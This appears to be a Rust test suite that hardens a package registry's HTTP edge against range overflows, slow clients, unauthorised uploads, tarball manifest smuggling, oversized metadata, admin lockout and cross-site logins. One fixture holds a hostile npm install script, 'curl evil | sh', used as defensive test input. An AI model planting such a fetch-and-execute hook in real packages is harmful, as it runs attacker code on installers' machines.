//! The HTTP edge half of "Trust boundaries (v1.1)": ranges, slow and stalled clients,
//! authorisation before bodies, immutability, one manifest per tarball, bounded metadata, no
//! lockout, and the browser headers. Each test failed on the v1.0 main.

use std::time::{Duration, Instant};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::common::*;
use crate::keys::create_key;

/// Reads from a raw connection until the server closes it or `limit` passes; returns what came.
async fn read_until_closed(stream: &mut TcpStream, limit: Duration) -> (Vec<u8>, bool) {
    let mut seen = Vec::new();
    let deadline = Instant::now() + limit;
    let mut buffer = [0u8; 4096];
    while Instant::now() < deadline {
        match tokio::time::timeout(deadline - Instant::now(), stream.read(&mut buffer)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (seen, true),
            Ok(Ok(n)) => seen.extend_from_slice(&buffer[..n]),
            Err(_) => break,
        }
    }
    (seen, false)
}

fn address(server: &TestServer) -> String {
    server.url.trim_start_matches("http://").to_owned()
}

#[tokio::test]
async fn overflowing_ranges_never_drop_the_connection() {
    let server = TestServer::start_with(|c| c.storage = None).await;
    let tarball = npm_tarball("acme", "1.0.0");
    let size = tarball.len();
    server.upload_ok("acme@1", "", tarball.clone(), 201).await;
    let url = "/artefacts/acme@1/tarball";
    // Twice: the second read is served from the in-memory copy of the small tarball.
    for _ in 0..2 {
        let response = server
            .get(url)
            .header("range", "bytes=1-18446744073709551615")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 206);
        assert_eq!(
            response.headers()["content-range"],
            format!("bytes 1-{}/{size}", size - 1).as_str()
        );
        assert_eq!(&response.bytes().await.unwrap()[..], &tarball[1..]);
        let response = server
            .get(url)
            .header("range", "bytes=0-18446744073709551615")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 206);
        assert_eq!(&response.bytes().await.unwrap()[..], &tarball[..]);
        let response = server
            .get(url)
            .header("range", "bytes=18446744073709551615-")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 416);
    }
}

#[tokio::test]
async fn a_blob_shorter_on_disk_than_its_slot_is_a_loud_500_not_a_short_body() {
    let server = TestServer::start_with(|c| c.storage = None).await;
    let tarball = npm_tarball_with("acme", "1.0.0", &vec![7u8; 2 << 20]);
    let doc = server.upload_ok("acme@1", "", tarball.clone(), 201).await;
    let sha = doc["tarballs"]["noarch"]["sha256"].as_str().unwrap();
    let blob = server.data_dir().join("blobs/sha256").join(sha);
    std::fs::write(&blob, &tarball[..100]).unwrap();
    for range in [None, Some("bytes=50-"), Some("bytes=1000-2000")] {
        let mut request = server.get("/artefacts/acme@1/tarball");
        if let Some(range) = range {
            request = request.header("range", range);
        }
        let response = tokio::time::timeout(Duration::from_secs(10), request.send())
            .await
            .expect("answered")
            .unwrap();
        expect_error(response, 500, "blob_corrupt").await;
    }
}

#[tokio::test]
async fn a_blob_shorter_in_s3_than_its_slot_is_a_500_for_every_range() {
    let server = TestServer::start_with(|c| {
        c.storage = Some(s3_url());
        c.s3_endpoint = Some(require_env("RELIQUARY_S3_ENDPOINT"));
    })
    .await;
    // Larger than the in-memory cache's limit, so every read goes to S3.
    let mut state = 7u64;
    let noise: Vec<u8> = (0..(2u32 << 20))
        .map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1);
            (state >> 56) as u8
        })
        .collect();
    let doc = server
        .upload_ok("acme@1", "", npm_tarball_with("acme", "1.0.0", &noise), 201)
        .await;
    let sha = doc["tarballs"]["noarch"]["sha256"].as_str().unwrap();
    // Damage the stored object: write 100 bytes over its key.
    let blobs = &server.registry.blobs;
    let mut writer = blobs.begin_upload().await.unwrap();
    let upload = writer.id;
    writer
        .write(bytes::Bytes::from(vec![1u8; 100]))
        .await
        .unwrap();
    writer.finish().await.unwrap();
    blobs.promote(upload, sha).await.unwrap();
    for range in [None, Some("bytes=50-"), Some("bytes=1000-2000")] {
        let mut request = server.get("/artefacts/acme@1/tarball");
        if let Some(range) = range {
            request = request.header("range", range);
        }
        let response = request.send().await.unwrap();
        expect_error(response, 500, "blob_corrupt").await;
    }
}

#[tokio::test]
async fn headers_that_never_finish_are_cut_off() {
    let server = TestServer::start_with(|c| c.header_timeout = Duration::from_secs(1)).await;
    let mut stream = TcpStream::connect(address(&server)).await.unwrap();
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .await
        .unwrap();
    let started = Instant::now();
    let (_, closed) = read_until_closed(&mut stream, Duration::from_secs(10)).await;
    assert!(
        closed,
        "the server still holds a connection whose headers never came"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    // A connection that sends nothing, and one idle after a complete request, go the same way.
    let mut silent = TcpStream::connect(address(&server)).await.unwrap();
    let mut kept_alive = TcpStream::connect(address(&server)).await.unwrap();
    kept_alive
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    for stream in [&mut silent, &mut kept_alive] {
        let (_, closed) = read_until_closed(stream, Duration::from_secs(10)).await;
        assert!(closed, "an idle connection is held open");
    }
    // A small body that never comes is cut off the same way.
    let mut slow_body = TcpStream::connect(address(&server)).await.unwrap();
    slow_body
        .write_all(b"POST /ui/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\ntoken=")
        .await
        .unwrap();
    let started = Instant::now();
    let (seen, closed) = read_until_closed(&mut slow_body, Duration::from_secs(10)).await;
    assert!(closed, "a request whose body never comes is held open");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert!(
        String::from_utf8_lossy(&seen).starts_with("HTTP/1.1 4"),
        "answered with a 4xx"
    );
    // Real requests are still served.
    assert_eq!(server.get("/healthz").send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn readers_that_never_read_are_dropped_and_free_their_memory() {
    let server = TestServer::start_with(|c| {
        c.storage = None;
        c.send_timeout = Duration::from_secs(1);
    })
    .await;
    // Incompressible, so the tarball is large and streamed rather than cached in memory.
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let noise: Vec<u8> = (0..16u32 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            (state >> 56) as u8
        })
        .collect();
    let tarball = npm_tarball_with("big", "1.0.0", &noise);
    server.upload_ok("big@1", "", tarball, 201).await;
    let edge = &server.app.edge;
    let metrics = &server.registry.metrics;
    let full = edge.budget_available_kib();
    // The upload's keep-alive connection may still be open.
    let before = metrics.open_connections();
    let mut stalled = Vec::new();
    for _ in 0..4 {
        // A small receive buffer, so the kernel cannot take the whole response for us.
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(16 * 1024).unwrap();
        let mut stream = socket
            .connect(address(&server).parse().unwrap())
            .await
            .unwrap();
        stream
            .write_all(b"GET /artefacts/big@1/tarball HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .unwrap();
        stalled.push(stream);
    }
    // While they stall, the chunks they hold are charged to the global budget.
    let deadline = Instant::now() + Duration::from_secs(5);
    while (edge.budget_available_kib() == full || metrics.open_connections() < before + 4)
        && Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(edge.budget_available_kib() < full);
    assert_eq!(metrics.open_connections(), before + 4);
    // The send timeout closes them (the clients still hold their sockets open, unread) and
    // every byte of the budget comes back.
    let deadline = Instant::now() + Duration::from_secs(15);
    while (edge.budget_available_kib() != full || metrics.open_connections() > before)
        && Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(edge.budget_available_kib(), full);
    assert!(
        metrics.open_connections() <= before,
        "stalled readers still hold connections: {} open, {before} before",
        metrics.open_connections()
    );
    drop(stalled);
    assert_eq!(server.get("/healthz").send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn bodies_are_not_read_before_the_caller_is_authorised() {
    let server = TestServer::start().await;
    let reader = create_key(&server, json!({"name": "reader", "role": "read"}))
        .await
        .token;
    for (token, status) in [(None, "401"), (Some(reader.as_str()), "403")] {
        let mut stream = TcpStream::connect(address(&server)).await.unwrap();
        let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
        // 10 GiB announced, none sent: an answer can only come before the body is read.
        let head = format!(
            "POST /artefacts/npm/acme@1 HTTP/1.1\r\nHost: x\r\n{auth}Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 10737418240\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let (seen, _) = read_until_closed(&mut stream, Duration::from_secs(3)).await;
        let text = String::from_utf8_lossy(&seen);
        assert!(text.starts_with(&format!("HTTP/1.1 {status}")), "{text}");
    }
    for (path, method) in [
        ("/keys", "POST"),
        ("/remotes/x", "PUT"),
        ("/artefacts/acme@1", "PATCH"),
    ] {
        let mut stream = TcpStream::connect(address(&server)).await.unwrap();
        let head = format!(
            "{method} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {reader}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let (seen, _) = read_until_closed(&mut stream, Duration::from_secs(3)).await;
        let text = String::from_utf8_lossy(&seen);
        assert!(text.starts_with("HTTP/1.1 403"), "{method} {path}: {text}");
    }
    let denied: Value = server
        .admin_get("/audit?action=artefact.upload_denied")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        denied["items"].as_array().unwrap().len(),
        1,
        "the 403 is audited"
    );
}

#[tokio::test]
async fn build_metadata_is_not_a_second_identity_for_a_release() {
    let server = TestServer::start().await;
    server
        .upload_ok(
            "acme@1",
            "",
            npm_tarball_with("acme", "1.0.0", b"real"),
            201,
        )
        .await;
    let response = server
        .upload(
            "acme@1",
            "",
            npm_tarball_with("acme", "1.0.0+evil", b"other bytes"),
        )
        .await;
    expect_error(response, 409, "version_exists").await;
}

#[tokio::test]
async fn two_entries_that_normalise_to_one_manifest_are_refused() {
    let server = TestServer::start().await;
    let good = br#"{"name": "acme", "version": "1.0.0"}"#;
    let evil = br#"{"name": "acme", "version": "1.0.0", "scripts": {"install": "curl evil | sh"}}"#;
    for second in [
        "package/./package.json",
        "package//package.json",
        "./package/package.json",
    ] {
        let tarball = tarball(&[
            Entry::File("package/package.json", good),
            Entry::File(second, evil),
        ]);
        let response = server.upload("acme@1", "", tarball).await;
        let body = expect_error(response, 422, "unsafe_tarball").await;
        assert!(!body["errors"].as_array().unwrap().is_empty(), "{body}");
    }
}

#[tokio::test]
async fn metadata_is_bounded_and_every_422_lists_a_violation() {
    let server = TestServer::start().await;
    let manifest = json!({
        "name": "acme", "version": "1.0.0",
        "description": "d".repeat(1_000_000), "license": "L".repeat(500),
    });
    let tarball = tarball(&[Entry::File(
        "package/package.json",
        manifest.to_string().as_bytes(),
    )]);
    let doc = server.upload_ok("acme@1", "", tarball, 201).await;
    assert_eq!(doc["description"].as_str().unwrap().chars().count(), 1024);
    assert_eq!(doc["licence"].as_str().unwrap().chars().count(), 128);
    let patched: Value = server
        .admin_patch("/artefacts/acme@1")
        .json(&json!({"description": "p".repeat(5000)}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        patched["description"].as_str().unwrap().chars().count(),
        1024
    );

    let response = server
        .upload("other@1", "", b"not gzip at all".to_vec())
        .await;
    let body = expect_error(response, 422, "invalid_tarball").await;
    assert!(!body["errors"].as_array().unwrap().is_empty(), "{body}");

    let response = server
        .admin_post("/keys")
        .header("content-type", "application/json")
        .body(format!(
            r#"{{"name": "{}", "role": "read"}}"#,
            "x".repeat(70_000)
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["code"], "payload_too_large");

    for name in ["evil\u{202E}txt", "bell\u{7}", "", &"k".repeat(65)] {
        let response = server
            .admin_post("/keys")
            .json(&json!({"name": name, "role": "read"}))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 400, "{name:?}");
    }
}

#[tokio::test]
async fn the_last_admin_key_cannot_be_revoked_and_a_revoked_admin_token_fails_clearly() {
    let server = TestServer::start().await;
    let keys: Value = server
        .admin_get("/keys")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let bootstrap = keys["items"][0]["id"].as_str().unwrap().to_owned();
    let response = server
        .admin_delete(&format!("/keys/{bootstrap}"))
        .send()
        .await
        .unwrap();
    expect_error(response, 409, "last_admin_key").await;

    // An admin key that expires does not count: it would only postpone the lockout.
    let expiring = create_key(
        &server,
        json!({"name": "temp", "role": "admin", "expiresAt": "2999-01-01T00:00:00.000Z"}),
    )
    .await;
    let response = server
        .admin_delete(&format!("/keys/{bootstrap}"))
        .send()
        .await
        .unwrap();
    expect_error(response, 409, "last_admin_key").await;

    let lasting = create_key(&server, json!({"name": "ops", "role": "admin"})).await;
    let response = server
        .admin_delete(&format!("/keys/{bootstrap}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let _ = expiring;

    let (config, dir) = server.stop().await;
    let refused = reliquary::open_registry(&config).await;
    let message = format!(
        "{:#}",
        refused
            .err()
            .expect("start-up refuses a revoked admin token")
    );
    assert!(
        message.contains("revoked") && message.contains("To recover"),
        "{message}"
    );

    // With another token the registry starts, and the surviving admin key still works.
    let mut config = config;
    config.admin_token = None;
    let restarted = TestServer::launch(config).await;
    let listed = restarted
        .get("/keys")
        .bearer_auth(&lasting.token)
        .send()
        .await
        .unwrap();
    assert_eq!(listed.status(), 200);
    drop(dir);
}

#[tokio::test]
async fn browsers_get_protective_headers_and_cross_site_logins_are_refused() {
    let server = TestServer::start().await;
    server
        .upload_ok("acme@1", "", npm_tarball("acme", "1.0.0"), 201)
        .await;
    let page = server.get("/ui/").send().await.unwrap();
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'"),
        "{csp}"
    );
    assert!(!csp.contains("unsafe-inline"));
    assert_eq!(page.headers()["x-frame-options"], "DENY");

    let download = server
        .get("/artefacts/acme@1/tarball")
        .send()
        .await
        .unwrap();
    assert_eq!(download.headers()["x-content-type-options"], "nosniff");
    assert_eq!(
        download.headers()["content-disposition"],
        "attachment; filename=\"acme-1.0.0.tgz\""
    );

    let host = address(&server);
    let login = |origin: &str| {
        server
            .client
            .post(format!("{}/ui/login", server.url))
            .header("origin", origin)
            .form(&[("token", ADMIN_TOKEN)])
            .send()
    };
    assert_eq!(login("http://evil.example").await.unwrap().status(), 403);
    let same_site = login(&format!("http://{host}")).await.unwrap();
    assert_ne!(same_site.status(), 403);
}

/// Ids, queries, ranges and JSON bodies as a hostile client would send them, straight into the
/// router: every answer is below 500, and every error is the JSON error shape.
#[test]
fn request_parsing_never_panics_and_always_answers_json_errors() {
    use axum::body::Body;
    use proptest::prelude::*;
    use tower::ServiceExt;

    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let server = runtime.block_on(async {
        let server = TestServer::start().await;
        server
            .upload_ok("acme@1", "", npm_tarball("acme", "1.0.0"), 201)
            .await;
        server
    });
    let router = reliquary::app::router(server.app.clone());
    let text = || proptest::string::string_regex("(.|[@/%.?#&=~ -]){0,24}").unwrap();
    let encode = |s: &str| -> String { form_urlencoded::byte_serialize(s.as_bytes()).collect() };
    let config = ProptestConfig {
        cases: 256,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    proptest!(config, |(
        route in 0usize..8,
        method in prop::sample::select(vec!["GET", "POST", "PATCH", "DELETE"]),
        id in prop_oneof![Just("acme@1".to_owned()), text()],
        arch in prop_oneof![Just("x64".to_owned()), text()],
        query in prop::collection::vec((prop::sample::select(vec!["architecture", "kind", "category", "limit", "cursor", "since", "wait", "q", "force", "action"]), text()), 0..4),
        range in proptest::option::of(text()),
        body in prop_oneof![
            Just(Vec::new()),
            prop::collection::vec(any::<u8>(), 0..64),
            Just(br#"{"category": "x", "description": "y"}"#.to_vec()),
            Just(br#"{"name": 5, "role": "nope"}"#.to_vec()),
        ],
        admin in any::<bool>(),
    )| {
        let (id, arch) = (encode(&id), encode(&arch));
        let path = match route {
            0 => format!("/artefacts/{id}"),
            1 => format!("/artefacts/{id}/tarball"),
            2 => format!("/artefacts/npm/{id}"),
            3 => "/artefacts".to_owned(),
            4 => format!("/artefacts/{id}/tarballs/{arch}"),
            5 => format!("/keys/{id}"),
            6 => "/audit".to_owned(),
            _ => "/keys".to_owned(),
        };
        let query: Vec<String> = query.iter().map(|(k, v)| format!("{k}={}", encode(v))).collect();
        let uri = format!("{path}?{}", query.join("&"));
        // Waiting on the change feed is real time; a hostile `wait` is still bounded at 60 s.
        prop_assume!(!uri.contains("wait="));
        let mut request = axum::http::Request::builder().method(method).uri(&uri);
        if let Some(range) = &range {
            if let Ok(value) = axum::http::HeaderValue::from_str(range) {
                request = request.header("range", value);
            }
        }
        if admin {
            request = request.header("authorization", format!("Bearer {ADMIN_TOKEN}"));
        }
        let request = request
            .header("content-type", "application/json")
            .body(Body::from(body))
            .unwrap();
        let (status, bytes) = runtime.block_on(async {
            let response = router.clone().oneshot(request).await.unwrap();
            let status = response.status();
            (status, axum::body::to_bytes(response.into_body(), 1 << 20).await.unwrap())
        });
        prop_assert!(status.as_u16() < 500, "{method} {uri} -> {status}: {}", String::from_utf8_lossy(&bytes));
        if status.as_u16() >= 400 {
            let error: Result<reliquary_client::types::ErrorBody, _> = serde_json::from_slice(&bytes);
            prop_assert!(error.is_ok(), "{method} {uri} -> {status}: {}", String::from_utf8_lossy(&bytes));
        }
    });
}
